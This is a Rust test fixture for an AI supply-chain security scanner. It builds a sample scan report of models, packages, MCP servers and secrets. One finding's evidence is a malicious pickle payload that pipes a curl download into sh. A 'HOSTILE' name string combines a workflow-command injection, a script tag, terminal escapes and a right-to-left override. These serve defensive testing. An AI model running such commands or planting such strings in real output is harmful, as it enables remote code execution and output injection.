//! A report made by hand, with assets and findings of all shapes.

use std::time::Duration;

use stance::output::ScanReport;
use stance_core::evidence::Locus;
use stance_core::finding::Status;
use stance_core::{
    Asset, AssetId, AssetKind, Confidence, Coverage, Evidence, Finding, How, Policy, Relation,
    RelationKind, Severity, Snapshot,
};

/// A name by which whoever wrote the tree tries to get out of every format:
/// line feeds, a workflow command, Markdown, HTML, a terminal escape, a
/// right-to-left override, a SARIF link and a character outside the basic plane.
pub(super) const HOSTILE: &str = "x\n::error::owned\r`*b*` <script>alert(1)</script> [a](http://e) @all #1 | \u{1b}[31m\u{202e}\u{1f980}%0A,:";

/// A report of no finding and no asset.
pub(super) fn empty() -> ScanReport {
    report(Vec::new(), Vec::new(), Vec::new())
}

/// Any report.
pub(super) fn report(
    assets: Vec<Asset>,
    relations: Vec<Relation>,
    mut findings: Vec<Finding>,
) -> ScanReport {
    let started = "2026-11-21T10:00:00.123456Z".parse().unwrap();
    let mut coverage = Coverage {
        files: 1234,
        directories: 56,
        bytes_read: 14_200_000,
        bytes_total: 4_100_000_000,
        understood: 321,
        members: 12,
        ..Coverage::default()
    };
    for _ in 0..3 {
        coverage.skip("malformed");
    }
    coverage.skip("too_large");
    let mut snapshot = Snapshot::new("demo", started, Policy::default(), Vec::new(), coverage);
    snapshot.assets = assets
        .into_iter()
        .map(|asset| (asset.id.clone(), asset))
        .collect();
    snapshot.relations = relations;
    Finding::identify(&mut findings);
    ScanReport {
        snapshot,
        findings,
        judged: None,
        roots: vec!["demo".to_owned()],
        tool_version: "0.1.0",
        started,
        elapsed: Duration::from_millis(1380),
        stored_scan: Some(7),
    }
}

/// Evidence on a line, with carets under `meant`.
pub(super) fn line(path: &str, line: u32, excerpt: &str, meant: &str) -> Evidence {
    let before = excerpt[..excerpt.find(meant).unwrap()].chars().count();
    let before = u32::try_from(before).unwrap();
    let width = u32::try_from(meant.chars().count()).unwrap();
    Evidence {
        path: path.into(),
        locus: Locus::Line {
            line,
            column: before + 5,
            width,
        },
        excerpt: excerpt.into(),
        mark: Some((before, width)),
    }
}

/// A finding of a rule that the catalogue does not know, so that snapshots do
/// not change with the text of real rules.
pub(super) fn finding(
    rule: &'static str,
    severity: Severity,
    asset: &AssetId,
    evidence: Evidence,
    message: &str,
) -> Finding {
    Finding::new(rule, severity, asset.clone(), evidence, message)
}

/// The report of all shapes.
pub(super) fn demo() -> ScanReport {
    let assets = assets();
    let id = |name: &str| {
        let asset = assets.iter().find(|asset| asset.name == name);
        asset.unwrap().id.clone()
    };
    let (app, pickle) = (id("demo"), id("m.pkl"));
    let relations = relations(&assets);

    let mut findings = vec![
        Finding {
            notes: vec![
                "the call runs while the file is loaded, before any of its data can be used and before any check that follows"
                    .to_owned(),
            ],
            more_evidence: vec![Evidence::bytes("weights/m.pkl", 96, 1, "BUILD {'x': 1}")],
            ..finding(
                "demo/pickle-runs-command",
                Severity::Critical,
                &pickle,
                Evidence {
                    mark: Some((0, 9)),
                    ..Evidence::bytes("weights/m.pkl", 31, 12, "os.system('curl https://example.org/x | sh')")
                },
                "loading `m.pkl` calls `os.system`",
            )
        },
        Finding {
            fix: Some("Take the key from the environment and revoke this one".to_owned()),
            ..finding(
                "demo/inline-key",
                Severity::High,
                &id("OpenAI API key"),
                line("app/main.py", 12, "client = OpenAI(api_key=\"sk-pr…(51 characters)\")", "sk-pr…(51 characters)"),
                "OpenAI API key in source code",
            )
        },
        Finding {
            confidence: Confidence::Medium,
            ..finding(
                "demo/hidden-member",
                Severity::High,
                &pickle,
                Evidence::bytes("weights/m.zip!archive/data.pkl", 2, 4, ""),
                "the archive holds a second model that only one reader sees",
            )
        },
        finding(
            "demo/hostile-name",
            Severity::Medium,
            &app,
            line(HOSTILE, 3, "\tname = '模型```🦀' # ::warning::x", "'模型```🦀'"),
            &format!("the file {HOSTILE} is called strangely"),
        ),
    ];
    for number in 1..=15_u32 {
        findings.push(finding(
            "demo/unsafe-load",
            Severity::Medium,
            &app,
            line(
                &format!("app/load_{number}.py"),
                number * 90,
                "model = torch.load(path)",
                "torch.load(path)",
            ),
            "`torch.load` runs code of the file it loads",
        ));
    }
    for number in 1..=8 {
        findings.push(finding(
            "demo/unpinned-package",
            Severity::Low,
            &app,
            line(
                "requirements.txt",
                number,
                &format!("package-{number}"),
                &format!("package-{number}"),
            ),
            &format!("`package-{number}` has no version"),
        ));
    }
    findings.push(finding(
        "demo/no-card",
        Severity::Info,
        &pickle,
        Evidence::file("weights/m.pkl"),
        "the model has no card",
    ));
    for (status, reason) in [
        (Status::Suppressed, Some("the file is ours")),
        (
            Status::Accepted,
            Some("risk taken (accepted by ml-team until 2027-01-01)"),
        ),
        (Status::Baseline, None),
    ] {
        findings.push(Finding {
            status,
            status_reason: reason.map(str::to_owned),
            ..finding(
                "demo/unsafe-load",
                Severity::High,
                &app,
                line("app/old.py", 4, "pickle.load(f)", "pickle.load"),
                "`pickle.load` runs code of the file it loads",
            )
        });
    }
    report(assets, relations, findings)
}

fn assets() -> Vec<Asset> {
    let new =
        |kind, key: &str, name: &str, how, evidence| Asset::new(kind, key, name, how, evidence);
    let at = |path: &str, number: u32| line(path, number, "x", "x");
    let mut assets = vec![
        new(
            AssetKind::Application,
            "demo",
            "demo",
            How::Configuration,
            at("pyproject.toml", 2),
        )
        .with("version", "1.2.0"),
        new(
            AssetKind::Model,
            "file/weights/m.pkl",
            "m.pkl",
            How::Observed,
            Evidence::file("weights/m.pkl"),
        )
        .with("format", "pickle")
        .with("size", 4096)
        .with(
            "sha256",
            "ba7816bf8f01cfea414140de5dae2223b00361a396177a9cb410ff61f20015ad",
        ),
        new(
            AssetKind::Model,
            "file/weights/g.gguf",
            "g.gguf",
            How::Observed,
            Evidence::file("weights/g.gguf"),
        )
        .with("format", "GGUF")
        .with("architecture", "llama")
        .with("licence", "apache-2.0")
        .with("parameters", 7_000_000_000_u64),
        new(
            AssetKind::Model,
            "openai/gpt-4o",
            "gpt-4o",
            How::Literal,
            at("app/main.py", 14),
        )
        .with("vendor", "openai"),
        new(
            AssetKind::Model,
            "pkg:huggingface/org/Model-7B",
            "org/Model-7B",
            How::Literal,
            at("app/main.py", 15),
        )
        .with("version", "0123456789abcdef0123456789abcdef01234567"),
        new(
            AssetKind::Dataset,
            "pkg:huggingface/datasets/squad",
            "squad",
            How::Literal,
            at("app/train.py", 3),
        ),
        new(
            AssetKind::Prompt,
            "file/AGENTS.md",
            "AGENTS.md",
            How::Observed,
            Evidence::file("AGENTS.md"),
        ),
        new(
            AssetKind::Agent,
            "claude-code",
            "claude-code",
            How::Configuration,
            at(".mcp.json", 3),
        ),
        new(
            AssetKind::McpServer,
            ".mcp.json#docs",
            "docs",
            How::Configuration,
            at(".mcp.json", 4),
        )
        .with("transport", "http")
        .with("url", "http://docs.example.org/mcp?a=b c"),
        new(
            AssetKind::McpServer,
            ".mcp.json#files",
            "files",
            How::Configuration,
            at(".mcp.json", 9),
        )
        .with("transport", "stdio")
        .with("arguments", vec!["-y", "@scope/server"]),
        new(
            AssetKind::Endpoint,
            "https://api.openai.com/v1",
            "https://api.openai.com/v1",
            How::Literal,
            at("app/main.py", 13),
        ),
        new(
            AssetKind::Endpoint,
            "http://${HOST}/v1",
            "http://${HOST}/v1",
            How::Default,
            at("app/main.py", 16),
        ),
        new(
            AssetKind::VectorStore,
            "chroma",
            "chroma",
            How::Import,
            at("app/main.py", 2),
        ),
        new(
            AssetKind::Vendor,
            "openai",
            "openai",
            How::Literal,
            at("app/main.py", 14),
        ),
        new(
            AssetKind::Secret,
            "openai-api-key/0123456789abcdef",
            "OpenAI API key",
            How::Literal,
            at("app/main.py", 12),
        )
        .with("value", "sk-pr…(51 characters)"),
        new(
            AssetKind::Compute,
            "pkg:docker/ghcr.io/org/server",
            "ghcr.io/org/server",
            How::Configuration,
            at("Dockerfile", 1),
        )
        .with("version", "latest"),
        new(
            AssetKind::Package,
            "pkg:npm/@scope/server",
            "@scope/server",
            How::Configuration,
            at(".mcp.json", 9),
        ),
        new(
            AssetKind::Model,
            &format!("file/{HOSTILE}"),
            HOSTILE,
            How::Observed,
            Evidence::file(HOSTILE),
        ),
    ];
    for number in 1..=40 {
        let name = format!("package-{number}");
        assets.push(
            new(
                AssetKind::Package,
                &format!("pkg:pypi/{name}"),
                &name,
                How::Configuration,
                at("requirements.txt", number),
            )
            .with("ecosystem", "pypi"),
        );
    }
    assets
}

fn relations(assets: &[Asset]) -> Vec<Relation> {
    let mut relations = Vec::new();
    for asset in assets {
        let (from, kind) = match asset.kind {
            AssetKind::Application | AssetKind::Vendor => continue,
            AssetKind::McpServer => ("agent:claude-code", RelationKind::Configures),
            AssetKind::Package => ("application:demo", RelationKind::DependsOn),
            AssetKind::Secret => ("application:demo", RelationKind::HoldsSecret),
            _ => ("application:demo", RelationKind::Contains),
        };
        let (from_kind, key) = from.split_once(':').unwrap();
        relations.push(Relation {
            from: AssetId::new(from_kind.parse().unwrap(), key),
            to: asset.id.clone(),
            kind,
            evidence: asset.evidence[0].clone(),
        });
        if asset.name == "gpt-4o" {
            relations.push(Relation {
                from: asset.id.clone(),
                to: AssetId::new(AssetKind::Vendor, "openai"),
                kind: RelationKind::ProvidedBy,
                evidence: asset.evidence[0].clone(),
            });
        }
    }
    relations.sort();
    relations
}
